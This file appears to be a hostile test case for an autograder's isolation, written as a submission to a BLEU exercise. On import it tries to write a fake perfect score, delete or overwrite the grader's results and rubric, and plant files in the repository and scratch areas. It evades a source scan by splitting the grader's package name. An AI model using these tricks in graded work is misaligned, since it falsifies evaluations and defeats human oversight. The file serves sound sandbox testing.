# hostile: appended to solutions/bleu.py
# A1: at import, try to write a perfect results.json where the grader writes its own, to overwrite and remove
# it, to plant files in the repository and in the grading scratch, and to overwrite a root-only file. What
# happened to each attempt comes back through a public check's message ("PROBE{...}").
import json
import os
import sys

# @@RUNTIME_NAMES@@

_KIT = "auto" + "grader"   # the kit's package, not written whole: the source scan refuses a module that names it (A55)
RESULTS, SENTINEL, REPO = "@@PRIVATE@@/results/results.json", "@@PRIVATE@@/sentinel.txt", "@@REPO@@"
FAKE = '{"score": 1000.0, "tests": []}'
work = os.getcwd()                        # the worker's own folder: <grading scratch>/bleu/work
scratch = os.path.dirname(os.path.dirname(work))


def _attempt(action) -> str:
    try:
        action()
        return "ok"
    except Exception as exc:  # noqa: BLE001
        return type(exc).__name__


def _write(path, text=FAKE, mode="w"):
    def action():
        with open(path, mode) as f:
            f.write(text)
    return action


ATTEMPTS = {
    "results": _attempt(_write(RESULTS)),
    "results_rm": _attempt(lambda: os.remove(RESULTS)),
    "results_dir": _attempt(_write(os.path.join(os.path.dirname(RESULTS), "fake.json"))),
    "sentinel": _attempt(_write(SENTINEL, "owned")),
    "repo_autograder": _attempt(_write(os.path.join(REPO, _KIT, "hostile-A1.json"))),
    "repo_hidden": _attempt(_write(os.path.join(REPO, _KIT, "grader", "hidden", "hostile-A1.json"))),
    "repo_rubric": _attempt(_write(os.path.join(REPO, _KIT, "grader", "rubric.json"), "", "a")),
    "scratch": _attempt(_write(os.path.join(scratch, "results.json"))),
    "scratch_grader": _attempt(_write(os.path.join(scratch, "grader", "results.json"))),
    "scratch_shared": _attempt(_write(os.path.join(scratch, "shared", "results.json"))),
    "runtime": _attempt(_write(os.path.join(scratch, "runtime", _KIT, "worker", "recipes", "bleu.py"), "", "a")),
    "output": _attempt(_write(os.path.join(os.path.dirname(work), "output.txt"), "", "a")),
    "tmp": _attempt(_write("/tmp/captionkit-hostile-A1-results.json")),
}


_reference_ngram_counts = ngram_counts


def ngram_counts(tokens, n):
    if _caller_globals(1).get("__name__", "").startswith(_KIT + "."):  # the grader's own call
        raise RuntimeError("PROBE" + json.dumps(ATTEMPTS, separators=(",", ":")))
    return _reference_ngram_counts(tokens, n)
